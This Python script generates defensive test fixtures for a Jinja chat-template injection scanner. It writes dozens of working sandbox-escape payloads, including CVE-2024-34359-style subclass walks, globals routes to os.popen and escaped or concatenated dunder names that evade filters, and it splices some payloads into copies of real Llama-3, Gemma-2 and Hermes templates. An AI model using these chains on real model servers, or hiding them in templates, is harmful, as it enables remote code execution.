#!/usr/bin/python3
"""Writes the template-injection (SSTI) fixtures of testdata/templates-ssti/:
malicious/*.jinja (hand-written payload shapes and payloads hidden inside
real chat templates from ../chat-templates/), benign/*.jinja (realistic
templates that use the same Jinja features legitimately) and manifest.json.

Run from the repository root (standard library only, deterministic):
    /usr/bin/python3 testdata/templates-ssti/gen/make.py

Every payload only ever runs `echo hallmark-marker`; nothing here is rendered
by hallmark, and the files must not be rendered by anything else either.
"""
import json
import os

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..")
REAL = os.path.join(ROOT, "..", "chat-templates")
CMD = "echo hallmark-marker"
DUNDER = ("critical", "template/dunder-access")

# (file, trick, severity, expect, note, template)
MALICIOUS = [
    ("llama-drama.jinja", "CVE-2024-34359 subclasses walk", *DUNDER,
     "The Llama Drama PoC shape (CVE-2024-34359, llama-cpp-python < 0.2.72): walk object's subclasses to warnings.catch_warnings and import os.",
     "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}"
     "{{ x()._module.__builtins__['__import__']('os').popen('" + CMD + "').read() }}{% endif %}{% endfor %}"),
    ("cycler-globals.jinja", "cycler.__init__.__globals__", *DUNDER,
     "Research 6.D D5: the cycler global's __init__ exposes jinja2.utils globals, which import os.",
     "{{ cycler.__init__.__globals__.os.popen('" + CMD + "').read() }}"),
    ("joiner-globals.jinja", "joiner.__init__.__globals__", *DUNDER,
     "Same route through the joiner global.",
     "{{ joiner.__init__.__globals__.os.popen('" + CMD + "').read() }}"),
    ("namespace-globals.jinja", "namespace.__init__.__globals__", *DUNDER,
     "Same route through the namespace global that real templates call legitimately.",
     "{{ namespace.__init__.__globals__.os.popen('" + CMD + "').read() }}"),
    ("lipsum-globals.jinja", "lipsum.__globals__ item", *DUNDER,
     "lipsum is a plain function: its __globals__ holds os.",
     "{{ lipsum.__globals__['os'].popen('" + CMD + "').read() }}"),
    ("self-init-globals.jinja", "self.__init__.__globals__", *DUNDER,
     "The TemplateReference (self) route to __builtins__.__import__.",
     "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('" + CMD + "').read() }}"),
    ("attr-hex-escape.jinja", "|attr with \\x escapes", *DUNDER,
     "Filter-evasion: the name is spelled with \\x5f escapes that Jinja's unicode-escape decoding turns into underscores.",
     "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() }}"),
    ("attr-unicode-escape.jinja", "|attr with \\u and \\U escapes", *DUNDER,
     "\\u005f and \\U0000005f spell the underscores.",
     "{{ ''|attr('\\u005f\\u005fclass\\U0000005f\\U0000005f')|attr('\\u005f\\u005fmro\\u005f\\u005f') }}"),
    ("attr-octal-escape.jinja", "|attr with octal escapes", *DUNDER,
     "\\137 is an underscore in octal.",
     "{{ ''|attr('\\137\\137class\\137\\137') }}"),
    ("attr-named-escape.jinja", "|attr with \\N{LOW LINE}", *DUNDER,
     "Python's \\N{...} named escapes, any letter case.",
     "{{ ''|attr('\\N{LOW LINE}\\N{low line}class\\N{LOW LINE}\\N{Low Line}') }}"),
    ("tilde-concat.jinja", "~ concatenation", *DUNDER,
     "The name is split and rejoined with ~.",
     "{{ ''|attr('__cla' ~ 'ss__')|attr('__mr' ~ 'o__') }}"),
    ("plus-concat.jinja", "+ concatenation", *DUNDER,
     "The name is split and rejoined with +.",
     "{{ ()|attr('_' + '_class_' + '_') }}"),
    ("join-list.jinja", "|join of a list literal", *DUNDER,
     "The name is a joined list.",
     "{{ ''|attr(['__', 'class', '__']|join) }}"),
    ("format-percent-c.jinja", "'%c'|format(95)", *DUNDER,
     "Underscores made from their code point with printf %c.",
     "{{ ''|attr('%c%cclass%c%c'|format(95, 95, 95, 95)) }}"),
    ("percent-operator.jinja", "'%s' % tuple", *DUNDER,
     "Python %-formatting with the % operator.",
     "{{ ''|attr('%s%s%s' % ('__', 'class', '__')) }}"),
    ("replace-built.jinja", "|replace", *DUNDER,
     "Placeholders replaced by underscores.",
     "{{ ''|attr('XXclassXX'|replace('X', '_')) }}"),
    ("reverse-built.jinja", "|reverse", *DUNDER,
     "The name is stored reversed.",
     "{{ ''|attr('__ssalc__'|reverse) }}"),
    ("slice-built.jinja", "[::-1] slice", *DUNDER,
     "The name is stored reversed and sliced back.",
     "{{ ''['__ssalc__'[::-1]] }}"),
    ("set-chain.jinja", "{% set %} indirection chain", *DUNDER,
     "The name is built across several set statements.",
     "{% set a = '__cl' %}{% set b = a ~ 'ass' %}{% set c = b ~ '__' %}{% set d = c %}{{ ''|attr(d) }}"),
    ("dict-join.jinja", "dict(...)|join key join", *DUNDER,
     "dict(__cla=1, ss__=2)|join yields the keys concatenated.",
     "{% set n = dict(__cla=1, ss__=2)|join %}{{ ()|attr(n) }}"),
    ("request-attr.jinja", "request|attr(...) (Flask)", *DUNDER,
     "The Flask request global and |attr route; also reaches request.application.",
     "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}"),
    ("template-reference-context.jinja", "self._TemplateReference__context", "critical", "template/private-attribute",
     "Name-mangled private attribute of the TemplateReference exposes the Context and its globals.",
     "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('" + CMD + "').read() }}"),
    ("map-attribute.jinja", "|map(attribute='__class__')", *DUNDER,
     "Attribute access hidden in a map filter argument.",
     "{{ ['']|map(attribute='__class__')|list }}"),
    ("map-attr-filter.jinja", "|map('attr', ...)", *DUNDER,
     "map applying the attr filter.",
     "{{ ['']|map('attr', '__class__')|list }}"),
    ("selectattr-dunder.jinja", "|selectattr('__class__')", *DUNDER,
     "Attribute access hidden in selectattr.",
     "{{ messages|selectattr('__class__')|list }}"),
    ("sort-attribute-dotted.jinja", "|sort(attribute='a.__class__')", *DUNDER,
     "Dotted attribute path, split by Jinja's attrgetter.",
     "{{ messages|sort(attribute='content.__class__')|list }}"),
    ("getitem-folded.jinja", "x['__cla' ~ 'ss__']", *DUNDER,
     "Item access falls back to attribute lookup in Jinja.",
     "{{ ''['__cla' ~ 'ss__']['__mr' ~ 'o__'] }}"),
    ("format-field.jinja", "'{0.__class__}'.format(x)", *DUNDER,
     "str.format fields read attributes (the sandbox guards this; plain Environment does not).",
     "{{ '{0.__class__.__mro__}'.format(messages) }}"),
    ("macro-argument.jinja", "name passed as a macro argument", *DUNDER,
     "The attribute name travels through a macro parameter.",
     "{% macro g(o, n) %}{{ o|attr(n) }}{% endmacro %}{{ g('', '__cla' ~ 'ss__') }}"),
    ("macro-default.jinja", "name in a macro default", *DUNDER,
     "The attribute name is a macro parameter default.",
     "{% macro g(o, n='_' ~ '_class__') %}{{ o[n] }}{% endmacro %}{{ g('') }}"),
    ("namespace-loop-built.jinja", "namespace built in a loop", *DUNDER,
     "The name is accumulated in a namespace attribute over a constant loop.",
     "{% set ns = namespace(s='') %}{% for p in ['__cl', 'ass', '__'] %}{% set ns.s = ns.s ~ p %}{% endfor %}{{ ''[ns.s] }}"),
    ("with-block.jinja", "{% with %} binding", *DUNDER,
     "The name is bound by a with block.",
     "{% with n = '__glo' ~ 'bals__' %}{{ lipsum|attr(n) }}{% endwith %}"),
    ("set-block-name.jinja", "{% set %}…{% endset %} block", *DUNDER,
     "The name is the output of a block set.",
     "{% set n -%}\n  __class__\n{%- endset %}{{ ''|attr(n) }}"),
    ("config-class.jinja", "config.__class__ (Flask)", *DUNDER,
     "Flask-style config object route.",
     "{{ config.__class__.__init__.__globals__['os'].popen('" + CMD + "').read() }}"),
    ("url-for-globals.jinja", "url_for.__globals__ (Flask)", *DUNDER,
     "Flask url_for route to __builtins__.eval.",
     "{{ url_for.__globals__['__builtins__']['eval'](\"__import__('os').popen('" + CMD + "').read()\") }}"),
    ("dynamic-attr.jinja", "|attr with a runtime name", "high", "template/dynamic-attribute",
     "The attribute name comes from the conversation: whoever writes the message picks the attribute.",
     "{% for m in messages %}{{ m|attr(m.content) }}{% endfor %}"),
    ("include.jinja", "{% include %}", "high", "template/include",
     "A chat template that loads another template from the server's search path.",
     "{% include 'other.jinja' %}{% for m in messages %}{{ m.content }}{% endfor %}"),
    ("extends.jinja", "{% extends %}", "high", "template/include",
     "A chat template that extends another template.",
     "{% extends 'base.jinja' %}{% block body %}{{ messages[0].content }}{% endblock %}"),
    ("import-macros.jinja", "{% from … import %}", "high", "template/include",
     "A chat template that imports macros from another template.",
     "{% from 'helpers.jinja' import render %}{{ render(messages) }}"),
    ("python-eval-call.jinja", "eval(...) call", "high", "template/dangerous-call",
     "Calling a Python builtin by name (works only where a renderer exposes builtins).",
     "{{ eval(\"__imp\" ~ \"ort__('os').popen('" + CMD + "').read()\") }}"),
    ("popen-attribute.jinja", "os.popen through an unknown object", "high", "template/dangerous-attribute",
     "Module attributes reached from a context variable.",
     "{{ tools.os.popen('" + CMD + "').read() }}"),
    ("unparseable.jinja", "broken syntax hiding a payload", "high", "template/unparseable",
     "A template hallmark cannot parse is never reported clean; the dunder inside is still reported.",
     "{{ ''.__class__.__mro__ }}{% if %}"),
]

# Payloads hidden inside real templates: (output, source, anchor, insert-after-anchor, trick, note)
HIDDEN = [
    ("hidden-in-for-loop-llama3.jinja", "llama-3-8b-instruct.jinja", "{% for message in loop_messages %}",
     "{% set p = ['__in', 'it__']|join %}{% set g = cycler|attr(p)|attr('__glo' ~ 'bals__') %}{{ g['os'].popen('" + CMD + "').read() }}",
     "payload inside the message loop",
     "Meta-Llama-3-8B-Instruct template with a cycler globals payload inside the for loop."),
    ("hidden-in-else-branch-amberchat.jinja", "amberchat-curated.jinja", "{% set system_message = '' %}",
     "{% set system_message = system_message ~ (lipsum|attr('\\u005f\\u005fglobals\\u005f\\u005f'))['os'].popen('" + CMD + "').read() %}",
     "payload in an else branch",
     "AmberChat template with a lipsum globals payload in the else branch of the system-message test."),
    ("hidden-in-macro-hermes.jinja", "hermes-2-pro-llama-3-8b-tool-use.jinja", "{%- macro json_to_python_type(json_spec) %}",
     "\n{%- set t = json_spec|attr('%c%cclass%c%c'|format(95, 95, 95, 95)) %}",
     "payload in a macro body",
     "Hermes-2-Pro tool-use template with a %c-built dunder inside its first macro."),
    ("hidden-in-set-block-firefunction.jinja", "firefunction-v2.jinja", "{%- set system_prompt_suffix -%}",
     "\n{{- (namespace|attr('__ini' ~ 't__')).__globals__.os.popen('" + CMD + "').read() -}}",
     "payload in a set block",
     "firefunction-v2 template with a namespace globals payload inside the system_prompt_suffix set block."),
    ("hidden-in-else-gemma2.jinja", "gemma-2-2b-it.jinja", "{% else %}{% set role = message['role'] %}",
     "{% set x = role|attr('__ssalc__'|reverse) %}",
     "payload in an inline else branch",
     "Gemma-2 template with a reversed dunder name in the else branch of the role test."),
]

BENIGN = [
    ("namespace-range-dict.jinja", "namespace/range/dict used legitimately",
     "Realistic uses of the globals that injection chains also start from.",
     "{%- set ns = namespace(last_user=-1, system='') -%}\n"
     "{%- for i in range(messages|length) -%}\n"
     "  {%- if messages[i].role == 'user' %}{% set ns.last_user = i %}{% endif -%}\n"
     "  {%- if messages[i].role == 'system' %}{% set ns.system = messages[i].content %}{% endif -%}\n"
     "{%- endfor -%}\n"
     "{%- set roles = dict(user='User', assistant='Assistant') -%}\n"
     "{{- ns.system -}}\n"
     "{%- for m in messages if m.role != 'system' -%}\n"
     "{{ roles[m.role] ~ ': ' ~ m.content | trim }}\n"
     "{% endfor -%}\n"
     "{%- if add_generation_prompt %}Assistant:{% endif -%}\n"),
    ("filters-and-format.jinja", "map/selectattr/format/join",
     "Attribute-name filter arguments and formatting with constant names.",
     "{%- set tool_names = tools | map(attribute='function.name') | list -%}\n"
     "{%- set users = messages | selectattr('role', 'equalto', 'user') | list -%}\n"
     "{{- 'Tools: %s' | format(tool_names | join(', ')) }}\n"
     "{{- '<|image_{i:d}|>'.format(i=1) }}\n"
     "{%- for m in messages | rejectattr('role', 'equalto', 'tool') -%}\n"
     "<|{{ m['role'] }}|>{{ m['content'] }}<|end|>\n"
     "{%- endfor -%}\n"),
    ("macros-and-loops.jinja", "macros, loops, set blocks",
     "A tool-rendering macro with recursion, a set block and loop controls, like the larger real templates.",
     "{%- macro render(schema, indent=0) -%}\n"
     "{%- for key, value in schema.items() -%}\n"
     "{{ ' ' * indent }}{{ key }}: {% if value is mapping %}\n{{ render(value, indent + 2) }}{% else %}{{ value | tojson }}\n{% endif %}\n"
     "{%- endfor -%}\n"
     "{%- endmacro -%}\n"
     "{%- set header -%}\nYou can call these tools:\n{%- endset -%}\n"
     "{{ header }}\n"
     "{%- for tool in tools -%}{% if loop.index > 8 %}{% break %}{% endif %}{{ render(tool) }}{%- endfor -%}\n"
     "{%- for message in messages -%}{{ '<|' ~ message.role ~ '|>' ~ message.content ~ eos_token }}{%- endfor -%}\n"),
]


def main():
    mal = os.path.join(ROOT, "malicious")
    ben = os.path.join(ROOT, "benign")
    os.makedirs(mal, exist_ok=True)
    os.makedirs(ben, exist_ok=True)
    manifest = []
    for name, trick, sev, expect, note, text in MALICIOUS:
        with open(os.path.join(mal, name), "w", encoding="utf-8", newline="") as f:
            f.write(text + "\n")
        manifest.append({"file": "malicious/" + name, "kind": "malicious", "trick": trick,
                         "expect_min_severity": sev, "expect": expect, "note": note})
    for name, src, anchor, payload, trick, note in HIDDEN:
        with open(os.path.join(REAL, src), encoding="utf-8", newline="") as f:
            text = f.read()
        i = text.index(anchor) + len(anchor)
        with open(os.path.join(mal, name), "w", encoding="utf-8", newline="") as f:
            f.write(text[:i] + payload + text[i:])
        sev, expect = DUNDER
        manifest.append({"file": "malicious/" + name, "kind": "malicious", "trick": trick,
                         "expect_min_severity": sev, "expect": expect,
                         "note": note + " Derived from testdata/chat-templates/" + src + "."})
    for name, trick, note, text in BENIGN:
        with open(os.path.join(ben, name), "w", encoding="utf-8", newline="") as f:
            f.write(text)
        manifest.append({"file": "benign/" + name, "kind": "benign", "trick": trick,
                         "expect_min_severity": "low", "expect": "", "note": note})
    with open(os.path.join(ROOT, "manifest.json"), "w", encoding="utf-8") as f:
        json.dump(manifest, f, indent=1, ensure_ascii=False)
        f.write("\n")
    print(len(MALICIOUS) + len(HIDDEN), "malicious,", len(BENIGN), "benign")


main()
